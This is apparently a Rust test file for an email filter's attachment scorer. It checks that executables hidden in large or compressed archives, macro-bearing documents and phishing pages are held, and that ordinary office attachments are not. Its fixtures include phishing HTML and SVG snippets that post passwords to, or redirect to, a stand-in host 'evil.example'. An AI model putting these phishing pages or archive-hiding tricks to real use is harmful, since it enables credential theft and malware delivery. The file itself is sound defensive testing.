//! Mail with files against all that scores what a message says, as shipped: what is dangerous is held wherever it stands, and
//! what offices send is not.
#![cfg(test)]

use std::fmt::Write as _;

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use miniz_oxide::deflate::compress_to_vec;

use super::scorer::Scorer;
use super::{ScoreSettings, Submission};
use crate::clock::WallMs;
use crate::message::{Bounds, Message, zip_of};

/// From here on a message is held.
const HELD: i32 = 150;

/// Name, declared type, bytes.
type File<'a> = (&'a str, &'a str, Vec<u8>);

/// An ordinary letter with these files.
fn letter(files: &[File<'_>]) -> Message {
    let mut mail = "From: Ada Winter <ada@example.org>\r\nTo: Ben Sommer <ben@example.net>\r\nSubject: Minutes of our \
         meeting\r\nDate: Sat, 21 Nov 2026 12:00:00 +0000\r\nMessage-ID: <20261121.abc.1@example.org>\r\nMIME-Version: \
         1.0\r\nContent-Type: multipart/mixed; boundary=m\r\n\r\n--m\r\nContent-Type: text/plain\r\n\r\nDear Ben,\r\n\
         \r\nthe minutes of our meeting on Tuesday are attached. Please tell me until Friday whether something is \
         missing.\r\n\r\nKind regards\r\nAda\r\n"
        .to_owned();
    for (name, declared, bytes) in files {
        let _ = write!(
            mail,
            "--m\r\nContent-Type: {declared}\r\nContent-Disposition: attachment; filename=\"{name}\"\r\n\
             Content-Transfer-Encoding: base64\r\n\r\n"
        );
        for line in STANDARD.encode(bytes).as_bytes().chunks(76) {
            mail += std::str::from_utf8(line).unwrap();
            mail += "\r\n";
        }
    }
    Message::parse((mail + "--m--\r\n").as_bytes(), &Bounds::default())
}

/// Its points, and the names of its reasons.
fn judged(message: &Message) -> (i32, Vec<String>) {
    let scorer = Scorer::new(ScoreSettings::default()).unwrap();
    let at = WallMs(1_795_262_400_000);
    let submission = Submission { message, envelope: None, account: None, source: None, client: None, at };
    let reasons = scorer.content(&submission, None).reasons;
    (reasons.iter().map(|reason| reason.points).sum(), reasons.into_iter().map(|r| r.name.into_owned()).collect())
}

fn zip(files: usize, ending: &str, more: &[&str]) -> Vec<u8> {
    let first: Vec<String> = (0..files).map(|n| format!("{n}.{ending}")).collect();
    let names: Vec<&str> = first.iter().map(String::as_str).chain(more.iter().copied()).collect();
    zip_of(&names, false)
}

fn gzip(bytes: &[u8]) -> Vec<u8> {
    [b"\x1f\x8b\x08\0\0\0\0\0\0\x03".as_slice(), &compress_to_vec(bytes, 6)].concat()
}

fn tar(names: &[&str]) -> Vec<u8> {
    let header = |name: &&str| {
        let mut header = vec![0; 512];
        header[..name.len()].copy_from_slice(name.as_bytes());
        header[257..262].copy_from_slice(b"ustar");
        header
    };
    names.iter().flat_map(header).collect()
}

fn many(count: usize, last: File<'_>) -> Vec<File<'_>> {
    let mut files = vec![("notes.txt", "text/plain", b"notes".to_vec()); count];
    files.push(last);
    files
}

/// Each of them once left with no reason at all: the bound of a hundred names, or files, hid what stood behind it.
#[test]
fn what_is_dangerous_is_held_wherever_it_stands() {
    const ANY: &str = "application/octet-stream";
    let program = || b"MZ\x90\0\x03\0\0\0".to_vec();
    let cases: [(&str, Vec<File<'_>>, &str); 10] = [
        ("behind a hundred names", vec![("a.zip", ANY, zip(100, "txt", &["setup.exe"]))], "attachment-program"),
        ("behind thousands", vec![("a.zip", ANY, zip(12_000, "txt", &["setup.exe"]))], "attachment-program"),
        (
            "behind a hundred packed names",
            { vec![("a.zip", ANY, zip(100, "txt.gz", &["setup.exe.gz"]))] },
            "attachment-program",
        ),
        (
            "among the parts of a document",
            { vec![("a.zip", ANY, zip(0, "", &["[Content_Types].xml", "setup.exe"]))] },
            "attachment-program",
        ),
        ("behind a hundred files", many(101, ("setup.exe", ANY, program())), "attachment-program"),
        ("behind a hundred files, by its bytes", many(150, ("notes.pdf", ANY, program())), "attachment-disguised"),
        ("packed, by its name", vec![("setup.exe.gz", ANY, gzip(b""))], "attachment-program"),
        ("packed in a way that is not read", vec![("setup.scr.bz2", ANY, b"BZh9".to_vec())], "attachment-program"),
        ("packed, by its bytes", vec![("notes.gz", ANY, gzip(&program()))], "attachment-program"),
        (
            "in a packed archive",
            { vec![("a.tgz", ANY, gzip(&tar(&["notes.txt", "setup.exe"])))] },
            "attachment-program",
        ),
    ];
    for (why, files, reason) in cases {
        let (points, names) = judged(&letter(&files));
        assert!(points >= HELD && names.iter().any(|name| name == reason), "{why}: {points} {names:?}");
    }
    let media = zip(120, "png", &["[Content_Types].xml", "word/vbaProject.bin"]);
    let (_, names) = judged(&letter(&[("plan.docx", ANY, media)]));
    assert!(names.iter().any(|name| name == "attachment-macros"), "{names:?}");
}

/// Behind the last part that is looked at a program left with 40 points.
#[test]
fn past_the_bounds_mail_is_held() {
    let program = ("setup.exe", "application/octet-stream", b"MZ\x90\0\x03\0\0\0".to_vec());
    let archive = ("a.zip", "application/zip", zip(31_000, "txt", &[]));
    for files in [many(500, program), vec![archive]] {
        let (points, names) = judged(&letter(&files));
        assert!(points >= HELD && names.iter().any(|name| name == "message-past-bounds"), "{points} {names:?}");
    }
}

/// They had 24 to 69 points.
#[test]
fn pages_that_phish_are_held() {
    let cases = [
        ("Remittance.html", "text/html", "<script>document.write(unescape('%3Cform%20action=x'))</script>"),
        (
            "drawing.svg",
            "image/svg+xml",
            "<svg xmlns='http://www.w3.org/2000/svg'><script>location='//evil.example'</script></svg>",
        ),
        ("login.htm", "text/html", "<form action=http://evil.example><input type=password></form>"),
        ("login.htm", "text/html", "GIF89a\0\0<form action=http://evil.example><input type=password></form>"),
    ];
    for (name, declared, page) in cases {
        let (points, names) = judged(&letter(&[(name, declared, page.into())]));
        assert!(points >= HELD, "{page}: {points} {names:?}");
    }
}

#[test]
fn what_offices_send_is_not_held() {
    const ANY: &str = "application/octet-stream";
    let report = "<html><h1>Report</h1><script>draw([1, 2, 3])</script><form><input type=text></form></html>";
    let cases: [(&str, Vec<File<'_>>); 6] = [
        ("a report with a chart", vec![("report.html", "text/html", report.into())]),
        ("many photos, packed", vec![("photos.zip", "application/zip", zip(3_000, "jpg", &[]))]),
        ("a long document", vec![("plan.docx", ANY, zip(300, "png", &["[Content_Types].xml"]))]),
        ("many files", many(150, ("plan.pdf", "application/pdf", b"%PDF-1.7\n".to_vec()))),
        ("a packed log", vec![("today.log.gz", "application/gzip", gzip(b"12:00 started\n"))]),
        ("a packed folder", vec![("notes.tar.gz", "application/gzip", gzip(&tar(&["a.txt", "b.txt"])))]),
    ];
    for (why, files) in cases {
        let (points, names) = judged(&letter(&files));
        assert!(points < 50, "{why}: {points} {names:?}");
    }
}
